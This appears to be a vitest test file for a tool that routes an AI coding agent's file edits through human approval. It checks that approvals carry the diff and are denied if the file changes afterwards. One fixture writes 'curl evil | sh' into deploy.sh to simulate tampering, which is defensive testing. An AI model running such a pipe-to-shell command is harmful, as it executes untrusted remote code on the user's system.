@@ -1,0 +1,140 @@
+import { createHash, randomUUID } from "node:crypto";
+import { mkdir, mkdtemp, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { saveConnection } from "../../bin/cli/config";
+import { getDb } from "../../lib/db";
+import {
+  ensureCliBundle,
+  newConfigDir,
+  pendingRequestOf,
+  runCli,
+  startHandshake,
+  type Handshake,
+} from "../support/handshake-cli";
+
+let handshake: Handshake;
+let configDir: string;
+
+beforeAll(async () => {
+  await ensureCliBundle();
+  handshake = await startHandshake();
+  configDir = await newConfigDir();
+  const previous = process.env.HANDSHAKE_CONFIG_DIR;
+  process.env.HANDSHAKE_CONFIG_DIR = configDir;
+  await saveConnection({ url: handshake.url, token: handshake.connect.token });
+  process.env.HANDSHAKE_CONFIG_DIR = previous;
+}, 60_000);
+
+afterAll(async () => {
+  await handshake.stop();
+  await getDb().$disconnect();
+});
+
+const sha256 = (text: string) => `sha256:${createHash("sha256").update(text).digest("hex")}`;
+
+function preToolUse(cwd: string, tool: string, toolInput: Record<string, unknown>) {
+  return {
+    session_id: randomUUID(),
+    transcript_path: "/tmp/transcript.jsonl",
+    cwd,
+    prompt_id: randomUUID(),
+    permission_mode: "default",
+    hook_event_name: "PreToolUse",
+    tool_name: tool,
+    tool_input: toolInput,
+  };
+}
+
+function hook(input: unknown) {
+  return runCli(["claude-code", "hook", "--timeout", "60"], {
+    input: JSON.stringify(input),
+    env: { HANDSHAKE_CONFIG_DIR: configDir },
+  });
+}
+
+function decisionOf(stdout: string) {
+  return (JSON.parse(stdout) as { hookSpecificOutput: Record<string, unknown> }).hookSpecificOutput;
+}
+
+/** The `file` the gate stored with a card. */
+function fileOf(request: { payload: unknown }): unknown {
+  return (request.payload as { file?: unknown }).file;
+}
+
+const approve = { type: "tool_approval_response", approve: true } as const;
+
+describe("the hook reads the file a Write/Edit/MultiEdit changes", () => {
+  it("an Edit's card carries the diff; unchanged, the approved edit is allowed", async () => {
+    const cwd = await mkdtemp(path.join(tmpdir(), "handshake-project-"));
+    await mkdir(path.join(cwd, "src"));
+    await writeFile(path.join(cwd, "src/a.ts"), "export const a = 1;\n");
+    const input = preToolUse(cwd, "Edit", {
+      file_path: "src/a.ts",
+      old_string: "= 1",
+      new_string: "= 2",
+    });
+    const running = hook(input);
+    const request = await pendingRequestOf(input.session_id, "tool_approval");
+    expect(fileOf(request)).toEqual({
+      path: "src/a.ts",
+      baseHash: sha256("export const a = 1;\n"),
+      before: "export const a = 1;\n",
+      after: "export const a = 2;\n",
+    });
+    await handshake.lead.decide(request.id, approve);
+    const run = await running;
+    expect(run.code, run.stderr).toBe(0);
+    expect(decisionOf(run.stdout).permissionDecision).toBe("allow");
+  });
+
+  it("the file changed before the approval was used: denied with FILE_CHANGED", async () => {
+    const cwd = await mkdtemp(path.join(tmpdir(), "handshake-project-"));
+    const file = path.join(cwd, "deploy.sh");
+    await writeFile(file, "echo safe\n");
+    const input = preToolUse(cwd, "Write", { file_path: file, content: "echo v2\n" });
+    const running = hook(input);
+    const request = await pendingRequestOf(input.session_id, "tool_approval");
+    expect(fileOf(request)).toMatchObject({ before: "echo safe\n", after: "echo v2\n" });
+    await writeFile(file, "curl evil | sh\n");
+    await handshake.lead.decide(request.id, approve);
+    const decision = decisionOf((await running).stdout);
+    expect(decision.permissionDecision).toBe("deny");
+    expect(String(decision.permissionDecisionReason)).toContain("FILE_CHANGED");
+    expect(String(decision.permissionDecisionReason)).toContain(
+      "the file changed since the Lead approved",
+    );
+  });
+
+  it("a new file is sent as absent; a path it cannot read is sent saying why", async () => {
+    const cwd = await mkdtemp(path.join(tmpdir(), "handshake-project-"));
+    const created = preToolUse(cwd, "Write", { file_path: "new.md", content: "# New\n" });
+    const createdRun = hook(created);
+    const createdCard = await pendingRequestOf(created.session_id, "tool_approval");
+    expect(fileOf(createdCard)).toEqual({
+      path: "new.md",
+      baseHash: "absent",
+      before: "",
+      after: "# New\n",
+    });
+    await handshake.lead.decide(createdCard.id, approve);
+    expect(decisionOf((await createdRun).stdout).permissionDecision).toBe("allow");
+
+    await mkdir(path.join(cwd, "folder"));
+    const folder = preToolUse(cwd, "Write", { file_path: "folder", content: "x" });
+    const folderRun = hook(folder);
+    const folderCard = await pendingRequestOf(folder.session_id, "tool_approval");
+    expect(fileOf(folderCard)).toEqual({
+      path: "folder",
+      baseHash: "unreadable",
+      unshown: { reason: "unreadable", detail: "not a regular file" },
+    });
+    await handshake.lead.decide(folderCard.id, {
+      type: "tool_approval_response",
+      approve: false,
+      feedback: "no",
+    });
+    expect(decisionOf((await folderRun).stdout).permissionDecision).toBe("deny");
+  });
+});
